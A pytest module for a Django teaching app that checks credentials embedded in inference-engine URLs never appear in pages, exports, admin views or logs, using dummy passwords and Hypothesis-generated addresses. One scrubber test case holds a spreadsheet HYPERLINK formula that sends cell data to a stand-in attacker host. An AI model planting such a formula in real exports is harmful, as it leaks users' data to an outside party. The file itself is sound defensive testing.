"""An engine's address may carry a password: no page, export, saved error or log line shows it.

A credentialed engine is registered and picked, and every row a learner can reach is made on it:
a lab run whose saved error and per-request error name the address, a hand-in, a chat answer
with a saved error, a document whose preview finds the (credentialed, dead) configured engine
down. Then every route of the URLconf (the walk of ``test_request_surface``) is read by the
learner and by their instructor, its path filled with those rows' ids, every export format too;
no body holds the password or the user name, and neither does any log record made meanwhile.
Django's admin is walked the same way as a superuser: every page of every registered model's
admin, its history after saves through the forms, and every list filtered or searched by the
password (which must find nothing); the engine's change form keeps a credential it does not show.
The functions that strip addresses (``labapp.addresses``) are checked on Hypothesis-made
addresses and texts.
"""

from __future__ import annotations

import logging
import re
from datetime import timedelta
from typing import Any
from urllib.parse import quote

import pytest
from django.contrib import admin as django_admin
from django.contrib.auth.models import User
from django.db.models import CharField, Model, TextField
from django.test import Client
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from bench import engines
from bench.models import BenchJob, Engine
from labapp import addresses
from labapp.classes import services as class_services
from labapp.models import LabSubmission, Membership
from rag.access import user_collection_name
from rag.models import Answer, Conversation, Document
from tests.site.test_labs import GOOD
from tests.site.test_request_surface import ADMIN_DOORS, routes
from tests.test_session_ends import _admin_post

PASSWORD = "s3cr3t-PASSWORD-x"  # noqa: S105 - the planted secret the walk looks for
USER = "tutor"
ENGINE_URL = f"http://{USER}:{PASSWORD}@127.0.0.1:9/v1"  # port 9 (discard): nothing answers there
CONFIGURED_URL = f"http://{USER}:{PASSWORD}@127.0.0.1:9"
ERROR = f"ConnectError: [Errno 111] Connection refused (vLLM at {ENGINE_URL})"
# GET-only walks; the exports in every format, and the query strings that bring rows into pages.
FORMATS = ("json", "csv", "engine.csv")


@pytest.fixture
def rows(db: None, settings: Any) -> dict[str, Any]:
    """A class, its learner and instructor, and every kind of row a page can show, all on the
    credentialed engine."""
    from labapp.chapter.services import chapter_load

    settings.LAB_MODE = "class"
    settings.VLLM_BASE_URL = CONFIGURED_URL
    chapter_load()
    learner, instructor = User.objects.create_user("addr-learner"), User.objects.create_user("addr-instructor")
    room = class_services.classroom_create(name="주소반", instructor=instructor)
    Membership.objects.create(classroom=room, user=learner)
    now = timezone.now()
    assignment = class_services.assignment_create(
        classroom=room, lab=1, opens_at=now - timedelta(days=1), due_at=now + timedelta(days=1), late_rule="accept"
    )
    engine = Engine.objects.create(name="GPU 상자", base_url=ENGINE_URL, added_by=instructor)
    results = GOOD[1] | {"cells": [GOOD[1]["cells"][0] | {"requests": [{"success": False, "error": ERROR}]}]}
    job = BenchJob.objects.create(
        owner=learner, kind="speed", lab=1, engine_url=ENGINE_URL, status="done", results=results, error=ERROR
    )
    failed = BenchJob.objects.create(
        owner=learner, kind="retrieval", engine_url=ENGINE_URL, status="failed", error=ERROR
    )  # a demo sweep
    LabSubmission.objects.create(
        user=learner, lab=1, job=job, reflection="소감", passed=True, engine_url=ENGINE_URL, submitted_at=now
    )
    conversation = Conversation.objects.create(owner=learner, title="대화")
    Answer.objects.create(
        conversation=conversation, question="질문", status="failed", error=f"vLLM에 연결할 수 없습니다: {ERROR}"
    )
    document = Document.objects.create(
        owner=learner, collection=user_collection_name(learner), title="메모", filename="memo.md", kind="md",
        size_bytes=10, text="메모 " * 50, content_hash="x", status="failed", error=ERROR,
    )  # fmt: skip
    ids = {
        "job_id": job.pk, "classroom_id": room.pk, "assignment_id": assignment.pk, "user_id": learner.pk,
        "conversation_id": conversation.pk, "document_id": document.pk, "engine_id": engine.pk, "number": 1,
    }  # fmt: skip
    return {"learner": learner, "instructor": instructor, "ids": ids, "jobs": (job.pk, failed.pk)}


def path_of(route: str, ids: dict[str, int]) -> str:
    """``route`` with each path parameter the row id of its name (the export's format left open)."""
    path = re.sub(r"\(\?P<app_label>[^)]*\)", "labapp", route)
    path = re.sub(r"\(\?P<(\w+)>\[0-9\]\+\)", lambda m: str(ids[m.group(1)]), path)
    path = re.sub(r"<slug:\w+>", "prefill-decode", path)
    path = re.sub(r"<int:(\w+)>", lambda m: str(ids[m.group(1)]), path)
    return "/" + path.replace("^", "").replace("$", "").replace("\\", "")


def paths(route: str, ids: dict[str, int], jobs: tuple[int, ...]) -> list[str]:
    """The paths that reach ``route``'s view with the rows' ids: each job's, each export format."""
    found: set[str] = set()
    for path in {path_of(route, ids | {"job_id": job}) for job in jobs}:
        found |= {re.sub(r"\(\?P<fmt>[^)]*\)", fmt, path) for fmt in FORMATS} if "(?P<fmt>" in path else {path}
    return sorted(found)


def queries(path: str, jobs: tuple[int, int]) -> list[dict[str, str]]:
    """The query strings that make a page show rows: a comparison of both jobs, the demo's sweep."""
    shown = {"/bench/compare/": {"ids": f"{jobs[0]},{jobs[1]}"}, "/demo/": {"job": str(jobs[1])}}
    return [{}, shown[path]] if path in shown else [{}]


def body(response: Any) -> str:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return bytes(raw).decode(errors="replace")


def test_no_page_export_or_log_shows_an_engines_password(
    rows: dict[str, Any], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    walked, leaks = 0, []
    for who in ("learner", "instructor"):
        client = Client(raise_request_exception=False)
        client.force_login(rows[who])
        session = client.session
        session[engines.SESSION_KEY] = ENGINE_URL  # the credentialed engine picked for their runs
        session.save()
        for route in sorted(set(routes())):
            if route.startswith("admin/") and route not in ADMIN_DOORS:
                continue
            for path in paths(route, rows["ids"], rows["jobs"]):
                for query in queries(path, rows["jobs"]):
                    response = client.get(path, query)
                    walked += 1
                    text = body(response)
                    if PASSWORD in text or f"{USER}:" in text:
                        leaks.append((who, path, query, response.status_code))
    assert walked > 100
    assert not leaks, "\n".join(map(str, leaks))
    assert PASSWORD not in caplog.text and f"{USER}:" not in caplog.text


def test_the_walk_reaches_the_rows_it_planted(rows: dict[str, Any]) -> None:
    client = Client()
    client.force_login(rows["learner"])
    job, failed = rows["jobs"]
    assert "127.0.0.1:9" in body(client.get(f"/bench/{job}/"))  # the address, shown without its password
    assert "Connection refused" in body(client.get(f"/bench/{failed}/"))
    assert "Connection refused" in body(client.get(f"/demo/sweep/{failed}.json"))
    assert "Errno 111" in body(client.get(f"/bench/{job}/export.csv"))
    assert "127.0.0.1:9" in body(client.get(f"/documents/{rows['ids']['document_id']}/preview/"))
    assert "Connection refused" in body(client.get(f"/chat/{rows['ids']['conversation_id']}/"))
    assert 'name="engine"' in body(client.get("/engines/"))


# --- Django's admin -----------------------------------------------------------------------------


def admin_paths(model: type[Model], model_admin: Any) -> list[str]:
    """Every page of ``model``'s admin (its own URLconf, custom pages too), each row's pages with its id."""
    base = f"/admin/{model._meta.app_label}/{model._meta.model_name}/"
    ids = [str(pk) for pk in model._default_manager.values_list("pk", flat=True)[:50]]
    found = []
    for pattern in model_admin.get_urls():
        route = str(pattern.pattern)
        found += [base + re.sub(r"<[^>]+>", pk, route) for pk in ids] if "<" in route else [base + route]
    return found


def text_fields(model: type[Model]) -> list[str]:
    return [f.name for f in model._meta.concrete_fields if isinstance(f, CharField | TextField)]


def _admin_saves(admin_client: Client, rows: dict[str, Any]) -> None:
    """Saves through the admin's forms, so the history and the messages after a save name the rows."""
    engine = rows["ids"]["engine_id"]
    _admin_post(admin_client, f"/admin/bench/engine/{engine}/change/", lambda data: None)
    _admin_post(admin_client, f"/admin/bench/engine/{engine}/change/", lambda data: data.update(hardware=["H200"]))


def test_no_admin_page_of_any_registered_model_shows_an_engines_password(
    rows: dict[str, Any], caplog: pytest.LogCaptureFixture
) -> None:
    """As a superuser: every page of every registered model's admin (list, add, each row's change,
    history and delete pages, custom pages), the admin's index and each app's, and the history
    after saves; no lookup or search in a list finds a row by its password."""
    caplog.set_level(logging.INFO)
    root = User.objects.create_superuser("addr-root")
    client = Client(raise_request_exception=False)
    client.force_login(root)
    _admin_saves(client, rows)
    pages = ["/admin/", *{f"/admin/{model._meta.app_label}/" for model in django_admin.site._registry}]
    for model, model_admin in django_admin.site._registry.items():
        pages += admin_paths(model, model_admin)
    leaks, found_by_password = [], []
    for path in pages:
        response = client.get(path)
        if PASSWORD in body(response) or f"{USER}:" in body(response):
            leaks.append((path, response.status_code))
    for model in django_admin.site._registry:
        changelist = f"/admin/{model._meta.app_label}/{model._meta.model_name}/"
        for query in [{"q": PASSWORD}, *({f"{name}__contains": PASSWORD} for name in text_fields(model))]:
            response = client.get(changelist, query)
            if response.status_code == 200 and response.context["cl"].result_count:
                found_by_password.append((changelist, query))
    assert len(pages) >= 50 and "/admin/bench/engine/" in pages and "/admin/labapp/labsubmission/" in pages
    assert not leaks, "\n".join(map(str, leaks))
    assert not found_by_password, found_by_password
    assert PASSWORD not in caplog.text and f"{USER}:" not in caplog.text


def test_the_admin_walk_reaches_the_addresses_it_planted(rows: dict[str, Any]) -> None:
    client = Client()
    client.force_login(User.objects.create_superuser("addr-root"))
    _admin_saves(client, rows)
    engine = rows["ids"]["engine_id"]
    for path in (
        "/admin/bench/engine/",
        f"/admin/bench/engine/{engine}/change/",
        f"/admin/bench/engine/{engine}/history/",
        f"/admin/bench/engine/{engine}/delete/",
        "/admin/labapp/labsubmission/",
        f"/admin/labapp/labsubmission/{LabSubmission.objects.get().pk}/change/",
    ):
        assert "127.0.0.1:9" in body(client.get(path)), path  # the address, shown without its password
    assert "GPU 상자" in body(client.get("/admin/"))  # the recent actions name the engine


def test_saving_the_engine_change_form_unchanged_keeps_its_credentials_and_a_new_address_replaces_them(
    rows: dict[str, Any],
) -> None:
    client = Client()
    client.force_login(User.objects.create_superuser("addr-root"))
    engine = rows["ids"]["engine_id"]
    path = f"/admin/bench/engine/{engine}/change/"
    seen: dict[str, list[str]] = {}
    _admin_post(client, path, seen.update)
    assert seen["base_url"] == ["http://127.0.0.1:9/v1"]  # what the form showed and sent back
    assert "인증 정보(비밀번호, 토큰)는 보이지 않습니다" in body(client.get(path))  # and says why
    assert Engine.objects.get(pk=engine).base_url == ENGINE_URL  # the credential is kept
    _admin_post(client, path, lambda data: data.update(name=["GPU 상자 2"]))
    assert Engine.objects.get(pk=engine).base_url == ENGINE_URL
    assert Engine.objects.get(pk=engine).name == "GPU 상자 2"
    _admin_post(client, path, lambda data: data.update(base_url=["https://ops:n3w-Pass@gpu-2.lab:8443/v1/"]))
    assert Engine.objects.get(pk=engine).base_url == "https://ops:n3w-Pass@gpu-2.lab:8443/v1"  # replaced whole
    refused = client.post(path, {"name": "x", "base_url": "gpu-box:8000", "model": "", "hardware": ""})
    assert refused.status_code == 200 and "http://" in body(refused)  # not an address: said, nothing saved
    assert Engine.objects.get(pk=engine).base_url == "https://ops:n3w-Pass@gpu-2.lab:8443/v1"


def test_an_address_field_may_not_be_searched_or_filtered_in_the_admin() -> None:
    from django.contrib.admin.sites import AdminSite

    from labapp.admin_addresses import AddressesShownAdmin

    class Searching(AddressesShownAdmin):
        address_fields = ("base_url",)
        search_fields = ["name", "base_url"]
        list_filter = ["model", "base_url"]

    errors = Searching(Engine, AdminSite()).check()
    assert [e.id for e in errors] == ["labapp.E001", "labapp.E001"]


def test_a_pick_names_the_engine_by_its_id_and_an_unknown_one_is_refused(rows: dict[str, Any]) -> None:
    client = Client()
    client.force_login(rows["learner"])
    engine = rows["ids"]["engine_id"]
    assert client.post("/engines/pick/", {"engine": str(engine)}).status_code == 302
    assert client.session[engines.SESSION_KEY] == ENGINE_URL
    assert client.post("/engines/pick/", {"engine": "default"}).status_code == 302
    assert client.session[engines.SESSION_KEY] == CONFIGURED_URL
    for bad in (str(engine + 1000), "²", "9" * 5000, ENGINE_URL, ""):
        page = client.post("/engines/pick/", {"engine": bad}, follow=True)
        assert page.status_code == 200 and "등록되지 않은 엔진입니다" in body(page), bad


def test_logging_an_engine_failure_never_writes_its_password(caplog: pytest.LogCaptureFixture) -> None:
    from rag.vllm import client as vllm_client

    caplog.set_level(logging.INFO)
    try:
        vllm_client.engine_info(url=ENGINE_URL, timeout=1.0)
    except vllm_client.EngineUnavailable as exc:
        logging.getLogger("bench.jobrun").exception("bench: job 1 failed on %s: %s", ENGINE_URL, exc)
    said = f"Client error '401 Unauthorized' for url '{ENGINE_URL}/models?api_key={TOKEN}9z'"
    try:
        raise RuntimeError(said)  # as httpx words an answered error: the URL as requested
    except RuntimeError:
        logging.getLogger("rag.ask").error("chat answer %s failed", "a1", exc_info=True)
    assert "127.0.0.1:9" in caplog.text and "Unauthorized" in caplog.text  # the failures are logged
    assert PASSWORD not in caplog.text and f"{USER}:" not in caplog.text and TOKEN not in caplog.text


# --- the functions -----------------------------------------------------------------------------

SECRET, TOKEN = "Zq9", "Tk7"  # capitals: the words around them are lower case, so only a leak holds them
# A user name and password as a URL carries them: any text percent-encoded, or written raw in what
# RFC 3986 allows there (plus "@", which clients accept up to the last one).
raw = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-._~!$&'()*+,;=:@%", max_size=12)
encoded = st.text(max_size=12).map(lambda text: quote(text, safe=""))
credentials = st.tuples(st.text(alphabet="abcxyz", min_size=1, max_size=6), raw | encoded).map(
    lambda pair: f"{pair[0]}{SECRET}:{SECRET}{pair[1]}{SECRET}"
)
hosts = st.sampled_from(["gpu-box", "10.0.0.7", "[::1]", "[fe80::1:2]", "engine.lab.example"])
ports = st.none() | st.integers(min_value=1, max_value=65535)
url_paths = st.sampled_from(["", "/", "/v1", "/v1/chat/completions"])
query = st.sampled_from(
    ["", f"?api_key={TOKEN}x", f"?a=1&token={TOKEN}&b=@", f"#access_token={TOKEN}", f"?X-Amz-Signature={TOKEN}%2F"]
)


@st.composite
def addresses_made(draw: st.DrawFn) -> tuple[str, str]:
    """(an address with credentials, what it shows)."""
    scheme, host, port, path = draw(st.sampled_from(["http", "https"])), draw(hosts), draw(ports), draw(url_paths)
    where = host if port is None else f"{host}:{port}"
    return f"{scheme}://{draw(credentials)}@{where}{path}{draw(query)}", f"{scheme}://{where}{path}".rstrip("/")


@given(addresses_made())
def test_an_address_is_shown_with_scheme_host_port_and_path_only(made: tuple[str, str]) -> None:
    url, expected = made
    assert addresses.shown(url) == expected
    assert addresses.scrubbed(url).startswith(expected) and SECRET not in addresses.scrubbed(url)
    assert TOKEN not in addresses.scrubbed(url)


words = st.text(alphabet="abc def,.;()\n", max_size=20)
wrappers = st.sampled_from(["{}", "'{}'", '"{}"', "({})", "<{}>", "{}."])


@given(st.lists(st.tuples(words, addresses_made(), wrappers), min_size=1, max_size=4), words)
def test_every_address_in_a_text_loses_its_credentials_and_tokens(
    parts: list[tuple[str, tuple[str, str], str]], tail: str
) -> None:
    text = "".join(f"{before} {wrapper.format(url)} " for before, (url, _shown), wrapper in parts) + tail
    clean = addresses.scrubbed(text)
    assert SECRET not in clean and TOKEN not in clean
    for _before, (_url, shown), _wrapper in parts:
        assert shown.split("://", 1)[1].split("/")[0] in clean  # the host (and port) are still there


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("redis://:s3cret@127.0.0.1:6379/0", "redis://127.0.0.1:6379/0"),
        ("postgres://lab:pw@db:5432/lab", "postgres://db:5432/lab"),
        ("http://u:p@ss@h:1/x?next=a@b", "http://h:1/x?next=a@b"),  # up to the host's @, not the query's
        ("http://h/v1?model=m&api_key=sk-1&n=2#tab", "http://h/v1?model=m&api_key=***&n=2#tab"),
        ("'https://h/x?Token=a%20b'", "'https://h/x?Token=***"),  # a value runs to the next space
        ('=HYPERLINK("http://evil.example/?d="&A1)', '=HYPERLINK("http://evil.example/?d="&A1)'),
        ("broker (redis://u@r:1/0) and http://plain:8000/", "broker (redis://r:1/0) and http://plain:8000/"),
        ("no URL: celery@worker-7, a@b", "no URL: celery@worker-7, a@b"),
    ],
)
def test_scrubbed_takes_credentials_out_of_every_url_in_a_text(text: str, shown: str) -> None:
    assert addresses.scrubbed(text) == shown


@pytest.mark.parametrize("bad", ["", "gpu-box:8000", "http://[bad", "http://h:99999", "tutor:pw@h", "file:///etc"])
def test_what_is_not_an_address_shows_nothing(bad: str) -> None:
    assert addresses.shown(bad) == ""


def test_scrubbed_data_reaches_every_string_in_an_export() -> None:
    data = {"error": ERROR, "cells": [{"requests": [{"error": ERROR, "ttft": 0.1}]}], "n": 3, "ok": None}
    clean = addresses.scrubbed_data(data)
    assert PASSWORD not in repr(clean) and clean["n"] == 3 and clean["cells"][0]["requests"][0]["ttft"] == 0.1


def test_the_supervisor_and_the_perf_table_name_external_servers_without_credentials(settings: Any) -> None:
    from labapp.ops import perf
    from labapp.ops.stack import components

    settings.REDIS_EMBEDDED = settings.CHROMA_EMBEDDED = settings.VLLM_EMBEDDED = False
    settings.REDIS_URL = f"redis://:{PASSWORD}@cache:6379/0"
    settings.CHROMA_URL = f"http://{USER}:{PASSWORD}@chroma:8100"
    settings.VLLM_BASE_URL = CONFIGURED_URL
    said = [c.external or "" for c in (components.redis(), components.chroma(), components.engine())]
    said.append(perf.machine_line())
    assert "redis://cache:6379/0" in said[0] and "127.0.0.1:9" in said[3]  # each still named
    assert not [line for line in said if PASSWORD in line or f"{USER}:" in line], said
